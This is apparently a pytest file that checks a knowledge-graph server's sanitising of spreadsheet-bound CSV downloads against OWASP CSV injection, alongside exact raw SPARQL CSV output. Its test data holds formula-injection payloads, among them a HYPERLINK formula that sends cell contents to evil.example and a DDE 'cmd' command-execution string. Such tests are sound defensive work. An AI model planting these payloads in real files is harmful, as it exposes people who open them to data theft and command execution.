"""CSV downloads meant for people never run a formula (issue 14, OWASP "CSV injection"); /sparql CSV
stays exact. A real server over a store holding organisations whose names start like formulas."""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from weblive import BASE, Server, build_store, start_server, stop_server

from kg.store import OxigraphStore
from kg.web.http import spreadsheet_cell, spreadsheet_csv, spreadsheet_csv_chunks

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rCarriage"]


def test_spreadsheet_cell_follows_owasp():
    for value in HOSTILE:
        assert spreadsheet_cell(value) == "'" + value
    for value in ("ACME", "-12.5", "+3e2", "42", "", "a=b", "mail@example.org", "'quoted"):
        assert spreadsheet_cell(value) == value
    body = b'name,n\r\n"=1+1",-3\r\n"multi\nline",x\r\n'
    assert spreadsheet_csv(body) == b"name,n\r\n'=1+1,-3\r\n\"multi\nline\",x\r\n"


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    var = tmp_path_factory.mktemp("var-csv")
    build = build_store(var, bench_rows=0)
    names = " ".join(
        f'<{BASE}id/project/csv{i}> kg:hasParticipation <{BASE}id/participation/csv{i}> . '
        f'<{BASE}id/participation/csv{i}> kg:organisation <{BASE}id/organisation/csv{i}> ; kg:role <{BASE}id/role/x> . '
        f"<{BASE}id/organisation/csv{i}> rdfs:label {literal(value)} ."
        for i, value in enumerate(HOSTILE)
    )
    store = OxigraphStore(build)
    try:
        store.update(
            "PREFIX kg: <https://w3id.org/euprojects/def#> PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#> "
            f"INSERT DATA {{ GRAPH <{BASE}graph/csv-test> {{ {names} }} }}"
        )
        store.flush()
    finally:
        store.close()
    srv = start_server(var, tmp_path_factory.mktemp("logs") / "csv-server.log", "--pool-size", "1")
    yield srv
    stop_server(srv)
    shutil.rmtree(var, ignore_errors=True)


def literal(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


def names_in(body: str) -> set[str]:
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    return {row["name"] for row in rows}


def test_named_query_csv_is_neutralised_sparql_csv_is_exact(hostile_server: Server):
    named = httpx.get(f"{hostile_server.url}/api/queries/organisations-in-most-projects", headers={"Accept": "text/csv"}, timeout=30)
    assert named.status_code == 200 and named.headers["content-type"].startswith("text/csv")
    assert {"'" + v for v in HOSTILE} <= names_in(named.text)
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names_in(named.text))
    query = (Path(__file__).resolve().parents[2] / "queries" / "organisations-in-most-projects.rq").read_text(encoding="utf-8")
    raw = httpx.post(f"{hostile_server.url}/sparql", data={"query": query}, headers={"Accept": "text/csv"}, timeout=30)
    assert raw.status_code == 200
    assert set(HOSTILE) <= names_in(raw.text)  # exact: what the store holds


def test_a_streamed_csv_is_neutralised_record_by_record_whatever_the_chunking():
    """The pool streams named-query CSV in chunks that can split a record, a quoted field or a
    UTF-8 sequence anywhere: every split gives the same bytes as the whole document."""
    body = 'name,n\r\n"=1+1",-3\r\n"multi\r\nline, ""quoted""",x\r\n@ü€,+y\r\n'.encode()
    whole = spreadsheet_csv(body)
    assert whole.count(b"'") == 3

    async def rejoin(parts: list[bytes]) -> bytes:
        async def gen():
            for part in parts:
                yield part

        return b"".join([c async for c in spreadsheet_csv_chunks(gen())])

    for size in range(1, len(body) + 1):
        parts = [body[i : i + size] for i in range(0, len(body), size)]
        assert asyncio.run(rejoin(parts)) == whole, size
